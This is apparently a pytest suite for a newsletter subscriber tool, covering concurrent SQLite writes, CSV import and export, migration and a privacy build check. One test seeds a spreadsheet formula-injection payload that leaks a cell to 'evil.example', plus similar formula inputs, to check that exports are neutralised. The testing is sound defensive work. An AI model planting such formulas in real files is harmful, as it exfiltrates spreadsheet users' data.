"""The letter's subscribers: an SQLite base that commands change together, CSV in and out.

Every command runs as the operator runs it, `python -m catalyst.tools.newsletter
subscribers …` (or its invoke task) in a subprocess, configured by
`NEWSLETTER_SUBSCRIBERS`; the base is read back with sqlite3, exports with the csv
module. The build's guard (plugins/newsletter/privacy.py) is given real files the
commands wrote.
"""

from __future__ import annotations

import csv
import os
import sqlite3
import subprocess
import sys
import time
from datetime import date
from pathlib import Path
from types import SimpleNamespace

import pytest

from catalyst.model.problems import problem_log
from plugins.newsletter.privacy import keep_subscribers_private

ROOT = Path(__file__).resolve().parent.parent
TODAY = date.today().isoformat()
HEADER = ["email", "name", "subscribed", "unsubscribed"]


def environment(base: Path) -> dict:
    env = {key: value for key, value in os.environ.items() if not key.startswith("NEWSLETTER_")}
    return env | {"NEWSLETTER_SUBSCRIBERS": str(base)}


def command(*args: str) -> list[str]:
    return [sys.executable, "-m", "catalyst.tools.newsletter", "subscribers", *args]


def run(base: Path, *args: str) -> subprocess.CompletedProcess:
    return subprocess.run(
        command(*args),
        cwd=ROOT,
        env=environment(base),
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
        stdin=subprocess.DEVNULL,
    )


def rows(base: Path) -> list[dict]:
    with sqlite3.connect(base) as connection:
        connection.row_factory = sqlite3.Row
        query = "SELECT email, name, subscribed, unsubscribed FROM newsletter_subscriber"
        return [dict(row) for row in connection.execute(query + " ORDER BY rowid")]


def write_csv(path: Path, lines: list[list[str]], header: list[str] = HEADER) -> Path:
    with path.open("w", encoding="utf-8", newline="") as handle:
        writer = csv.writer(handle)
        writer.writerow(header)
        writer.writerows(lines)
    return path


def read_csv(path: Path) -> list[dict]:
    with path.open(encoding="utf-8", newline="") as handle:
        return list(csv.DictReader(handle))


def assert_french_refusal(result: subprocess.CompletedProcess, *fragments: str) -> None:
    said = result.stdout + result.stderr
    assert result.returncode == 1, said
    assert "Traceback" not in said
    for fragment in fragments:
        assert fragment in said, said


def opened_by(pid: int, path: Path) -> bool:
    """Whether process `pid` holds `path` open (Linux's /proc)."""
    try:
        return any(os.readlink(link) == str(path) for link in Path(f"/proc/{pid}/fd").iterdir())
    except OSError:
        return False


def test_commands_run_at_once_all_keep_their_change(tmp_path):
    base = tmp_path / "abonnes.sqlite"
    leaving = [f"part{n}@example.org" for n in range(8)]
    coming = [f"vient{n}@example.org" for n in range(8)]
    source = write_csv(tmp_path / "gens.csv", [[a, "", "2025-01-01", ""] for a in leaving])
    assert run(base, "import", str(source)).returncode == 0
    # Hold the base's write lock until all 16 commands have opened it: they then all wait for
    # it together (the busy timeout), and all go the moment it is released.
    holder = sqlite3.connect(base, isolation_level=None)
    holder.execute("BEGIN IMMEDIATE")
    env = environment(base)
    pipes = {"stdout": subprocess.PIPE, "stderr": subprocess.PIPE, "text": True}
    started = [
        subprocess.Popen(command(*args), cwd=ROOT, env=env, stdin=subprocess.DEVNULL, **pipes)
        for args in [("remove", a) for a in leaving] + [("add", a) for a in coming]
    ]
    deadline = time.monotonic() + 60
    while Path("/proc/self/fd").is_dir() and time.monotonic() < deadline:
        if all(opened_by(process.pid, base) for process in started):
            break
        time.sleep(0.01)
    holder.execute("COMMIT")
    holder.close()
    outcomes = [(process.wait(timeout=120), *process.communicate()) for process in started]
    for code, out, err in outcomes:
        assert code == 0, out + err
    assert [out.split()[0] for _, out, _ in outcomes] == leaving + coming
    assert all("est désabonnée" in out for _, out, _ in outcomes[:8])
    assert all("est abonnée depuis aujourd’hui" in out for _, out, _ in outcomes[8:])
    found = {row["email"]: row for row in rows(base)}
    assert sorted(found) == sorted(leaving + coming)
    assert all(found[a]["unsubscribed"] == TODAY for a in leaving)
    assert all(found[a]["subscribed"] == TODAY and not found[a]["unsubscribed"] for a in coming)


def test_a_base_created_by_commands_run_at_once_keeps_each_of_them(tmp_path):
    base = tmp_path / "nouvelle.sqlite"
    coming = [f"vient{n}@example.org" for n in range(8)]
    env = environment(base)
    pipes = {"stdout": subprocess.PIPE, "stderr": subprocess.PIPE, "text": True}
    started = [
        subprocess.Popen(command("add", a), cwd=ROOT, env=env, stdin=subprocess.DEVNULL, **pipes)
        for a in coming
    ]
    for process in started:
        out, err = process.communicate(timeout=120)
        assert process.returncode == 0, out + err
    assert sorted(row["email"] for row in rows(base)) == coming
    assert base.stat().st_mode & 0o777 == 0o600  # personal data: its owner's only


def test_an_export_is_formula_safe_and_imports_back_unchanged(tmp_path):
    base = tmp_path / "abonnes.sqlite"
    names = {
        "egal@example.org": '=HYPERLINK("https://evil.example/?"&A1;"clic")',
        "plus@example.org": "+33 6 12 34 56 78",
        "moins@example.org": "-2+3",
        "arobase@example.org": "@SUM(1;2)",
        "tab@example.org": "\t=1+1",
        "sage@example.org": "Zoé L’Hôte",
    }
    for address, name in names.items():
        added = run(base, "add", address, f"--name={name}")
        assert added.returncode == 0, added.stderr
    assert run(base, "remove", "moins@example.org").returncode == 0
    exported = run(base, "export", str(tmp_path / "export.csv"))
    assert exported.returncode == 0, exported.stderr
    assert "Export de 6 adresses" in exported.stdout
    assert (tmp_path / "export.csv").stat().st_mode & 0o777 == 0o600
    read = read_csv(tmp_path / "export.csv")
    for row in read:
        for cell in row.values():
            assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), row
    shown = {row["email"]: row["name"] for row in read}
    assert shown == {
        address: ("'" + name if name[0] in "=+-@\t" else name) for address, name in names.items()
    }
    assert [row["unsubscribed"] for row in read if row["email"] == "moins@example.org"] == [TODAY]
    again = tmp_path / "reimport.sqlite"
    imported = run(again, "import", str(tmp_path / "export.csv"))
    assert imported.returncode == 0, imported.stderr
    assert rows(again) == rows(base)


def test_an_address_a_spreadsheet_would_run_is_refused_with_its_line(tmp_path):
    base = tmp_path / "abonnes.sqlite"
    source = write_csv(
        tmp_path / "gens.csv",
        [["ok@example.org", "", "", ""], ["=cmd@example.org", "", "", ""], ["-x@example.org"]],
    )
    refused = run(base, "import", str(source))
    assert_french_refusal(refused, "Rien n’a été importé", "gens.csv:3 — adresse «\u202f=cmd@")
    assert "gens.csv:4 — adresse «\u202f-x@example.org\u202f» refusée" in refused.stderr
    assert not base.exists() or rows(base) == []
    assert_french_refusal(run(base, "add", "+x@example.org"), "Rien n’a changé")


def test_the_old_csv_is_refused_with_the_commands_that_move_it_and_they_do(tmp_path):
    old = write_csv(
        tmp_path / "abonnes.csv",
        [
            ["ann@example.org", "Ann", "2025-01-01", "", "formulaire"],
            ["bob@example.org", "Bob", "2025-01-01", "2025-06-01", ""],
            ["ANN@example.org", "", "2025-02-01", "2025-09-01", ""],  # twice, unsubscribed once
            ["cy@example.org", "Cy", "2025-03-01", "", ""],
        ],
        header=[*HEADER, "source"],
    )
    before = old.read_bytes()
    for args in (("add", "new@example.org"), ("remove", "ann@example.org"), ("export", "x.csv")):
        refused = run(old, *args)
        assert_french_refusal(
            refused,
            "abonnes.csv est un fichier CSV d’abonnés, l’ancien format",
            "NEWSLETTER_SUBSCRIBERS nomme désormais une base SQLite",
        )
    assert old.read_bytes() == before
    [line] = [
        line for line in refused.stderr.splitlines() if "newsletter.subscribers import" in line
    ]
    assignment, command, invocation = line.strip().split(" ", 2)
    assert command.endswith("invoke")  # `invoke`, or the project's .venv/bin/invoke
    name, _, value = assignment.partition("=")
    assert name == "NEWSLETTER_SUBSCRIBERS" and value == str(tmp_path / "abonnes.sqlite")
    env = environment(old) | {name: value}
    moved = subprocess.run(
        [sys.executable, "-m", "invoke", *invocation.split()],
        cwd=ROOT,
        env=env,
        capture_output=True,
        text=True,
        timeout=120,
        check=False,
    )
    assert moved.returncode == 0, moved.stdout + moved.stderr
    assert rows(Path(value)) == [
        {"email": "ann@example.org", "name": "Ann", "subscribed": "2025-01-01",
         "unsubscribed": "2025-09-01"},
        {"email": "bob@example.org", "name": "Bob", "subscribed": "2025-01-01",
         "unsubscribed": "2025-06-01"},
        {"email": "cy@example.org", "name": "Cy", "subscribed": "2025-03-01", "unsubscribed": ""},
    ]  # fmt: skip
    exported = run(Path(value), "export", str(tmp_path / "export.csv"))
    assert exported.returncode == 0, exported.stderr
    assert read_csv(tmp_path / "export.csv")[0]["source"] == "formulaire"  # other columns kept


def test_import_dedupes_keeps_unsubscriptions_and_refuses_a_file_with_bad_lines(tmp_path):
    base = tmp_path / "gens.sqlite"
    people = write_csv(
        tmp_path / "gens.csv",
        [
            ["bob@example.org", "Bob", "2025-01-01", ""],
            ["dan@example.org", "Dan", "2025-01-01", "2026-01-01"],
        ],
    )
    assert run(base, "import", str(people)).returncode == 0
    export = tmp_path / "sympa.txt"
    lines = [
        "# export Sympa",
        "alice@example.org Alice Martin",
        "Bob Dupont <BOB@example.org>",
        "ALICE@example.org",
        "pas-une-adresse",
        "Dan@Example.org",
        "carol@example.org",
        "point.final.@example.org",
    ]
    export.write_text("\n".join(lines) + "\n", encoding="utf-8")
    before = rows(base)
    refused = run(base, "import", str(export))
    assert_french_refusal(refused, "sympa.txt:5 — adresse invalide", "Rien n’a été importé")
    assert "sympa.txt:8 — adresse invalide «\u202fpoint.final.@example.org" in refused.stderr
    assert rows(base) == before
    export.write_text("\n".join(lines[:4] + lines[5:7]) + "\n", encoding="utf-8")
    imported = run(base, "import", str(export))
    assert imported.returncode == 0, imported.stderr
    assert "2 adresses ajoutées, 1 déjà présente, 1 en double" in imported.stdout
    found = rows(base)
    assert [row["email"].lower() for row in found] == [
        "bob@example.org",
        "dan@example.org",
        "alice@example.org",
        "carol@example.org",
    ]
    assert found[1]["unsubscribed"] == "2026-01-01"  # an import never brings someone back
    assert found[2]["name"] == "Alice Martin" and found[2]["subscribed"] == TODAY


def test_remove_dates_the_row_and_add_works_through_invoke(tmp_path):
    base = tmp_path / "gens.sqlite"
    added = subprocess.run(
        [
            sys.executable,
            "-m",
            "invoke",
            "newsletter.subscribers",
            "add",
            "eve@example.org",
            "--name",
            "Ève Durand",
        ],
        cwd=ROOT,
        env=environment(base),
        capture_output=True,
        text=True,
        timeout=60,
        check=False,
    )
    assert added.returncode == 0, added.stdout + added.stderr
    removed = run(base, "remove", "EVE@example.org")
    assert removed.returncode == 0, removed.stderr
    assert rows(base) == [
        {"email": "eve@example.org", "name": "Ève Durand", "subscribed": TODAY,
         "unsubscribed": TODAY},
    ]  # fmt: skip
    unknown = run(base, "remove", "nobody@example.org")
    assert_french_refusal(unknown, "nobody@example.org n’est pas dans la base des abonnés")
    missing = run(tmp_path / "absente.sqlite", "export", str(tmp_path / "x.csv"))
    assert_french_refusal(missing, "Base des abonnés introuvable", "subscribers add ADRESSE")
    assert not (tmp_path / "absente.sqlite").exists()


@pytest.fixture
def written(tmp_path):
    """A base, its export and harmless look-alikes, as the commands and others write them."""
    content = tmp_path / "content"
    (content / "extra").mkdir(parents=True)
    base = content / "extra" / "sauvegarde.db"
    assert run(base.with_suffix(".tmp"), "add", "zoe@example.org").returncode == 0
    base.with_suffix(".tmp").rename(base)
    assert run(base, "export", str(tmp_path / "export.csv")).returncode == 0
    (tmp_path / "export.csv").rename(content / "extra" / "liste.csv")
    write_csv(content / "extra" / "tarifs.csv", [["a"]], header=["produit", "prix"])
    other = sqlite3.connect(content / "extra" / "donnees.sqlite")
    other.execute("CREATE TABLE mesure (jour TEXT, valeur REAL)")
    other.commit()
    other.close()
    return content


def test_the_build_refuses_a_base_or_an_export_under_content_and_only_them(written, monkeypatch):
    files = sorted(p.relative_to(written).as_posix() for p in (written / "extra").iterdir())
    context = {
        "static_content": {rel: SimpleNamespace(source_path=str(written / rel)) for rel in files}
    }
    monkeypatch.setenv("NEWSLETTER_SUBSCRIBERS", str(written / "extra" / "sauvegarde.db"))
    keep_subscribers_private(context, {"PATH": str(written), "OUTPUT_PATH": "/nulle-part"})
    said = {(Path(p.path).name, p.message.split(" : ")[0]) for p in problem_log(context).problems}
    looks_like = "ce fichier ressemble à la liste des abonnés de la lettre"
    assert said == {
        (
            "sauvegarde.db",
            "le fichier des abonnés (NEWSLETTER_SUBSCRIBERS) est dans un dossier publié",
        ),
        ("sauvegarde.db", looks_like),
        ("liste.csv", looks_like),
    }
